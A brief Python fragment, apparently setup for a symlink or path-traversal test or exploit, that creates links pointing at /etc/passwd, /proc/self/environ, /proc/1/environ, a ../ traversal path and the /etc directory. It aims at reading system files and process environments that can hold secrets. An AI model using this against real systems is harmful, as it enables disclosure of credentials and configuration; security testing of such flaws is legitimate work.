for name, target in (("passwd", "/etc/passwd"), ("self", "/proc/self/environ"), ("service", "/proc/1/environ"),
                     ("up", "../../../../../../etc/passwd")):
    os.symlink(target, name)
os.symlink("/etc", "folder")
print("done")
